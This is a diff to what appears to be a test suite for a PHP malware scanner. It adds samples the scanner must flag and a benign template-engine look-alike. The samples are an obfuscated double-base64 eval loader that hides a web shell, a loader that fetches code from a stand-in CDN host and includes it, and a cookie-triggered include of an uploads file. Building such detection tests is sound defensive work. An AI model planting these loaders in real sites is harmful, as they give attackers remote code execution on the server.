@@ -96,9 +96,24 @@ int c; while ((c = out.read()) != -1) back.write(c);
     '/srv/www/web/config.php',
     `<?php\nif (isset($_COOKIE['k'])) {\n    include_once dirname(__FILE__) . '/uploads/thumb.php';\n}\nrequire_once dirname(__FILE__) . '/../app/bootstrap.php';\n`,
   ],
+  [
+    'a loader joining a decoder\'s name from two variables and running it twice over a literal built by .= pieces (H45)',
+    '/srv/www/c.php',
+    `<?php\n$z = "";\n$z .= "UEQ5";\n$z .= "d2FI";\n$z .= "QWdj";\n$z .= "M2x6";\n$z .= "ZEdW";\n$z .= "dEtD";\n$z .= "UmZS";\n$z .= "MFZV";\n$z .= "V3lk";\n$z .= "akox";\n$z .= "MHBP";\n$z .= "eUEv";\n$z .= "UGc9";\n$z .= "PQ==";\n$a = "base"; $b = "64_decode"; $c = $a.$b; $s = $c($z); $s = $c($s); eval($s);\n`,
+  ],
+  [
+    'a loader writing code fetched from a CDN to a temporary file and including it (H45)',
+    '/srv/www/m.php',
+    `<?php\nfunction pull($u) { $c = @file_get_contents($u); if ($c === false) { $h = curl_init(); curl_setopt($h, CURLOPT_URL, $u); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1); $c = curl_exec($h); } return $c; }\n$url = "https://cdn.example.invalid/gh/x/y@main/z.txt";\n$code = pull($url);\nif ($code !== false) {\n  if (strpos($code, '<?php') === false) $code = "<?php\\n" . $code;\n  $tmp = tempnam(sys_get_temp_dir(), 'rc_');\n  file_put_contents($tmp, $code);\n  include $tmp;\n  unlink($tmp);\n}\n`,
+  ],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
+  [
+    'a template engine compiling a template to a temporary file and including it',
+    '/srv/www/lib/view.php',
+    `<?php\n// docs: https://www.example.com/view\nfunction render($name, array $vars) {\n  $src = file_get_contents(__DIR__ . '/views/' . basename($name) . '.tpl');\n  $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $src);\n  $tmp = tempnam(sys_get_temp_dir(), 'view_');\n  file_put_contents($tmp, $php);\n  extract($vars);\n  include $tmp;\n  unlink($tmp);\n}\n`,
+  ],
   [
     'a two-factor class decoding Base32 secrets beside a template that evals its compiled code',
     '/srv/www/lib/totp.php',
@@ -220,14 +235,14 @@ describe('scan: session 43 samples, the misses written again', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every page', () => assert.equal(PAGES.length, 6));
+  it('ran every page', () => assert.equal(PAGES.length, 8));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 7));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 8));
   for (const [name, path, src] of VARIANTS) {
     it(`malicious: ${name}`, () => {
       const r = scan(src, path);
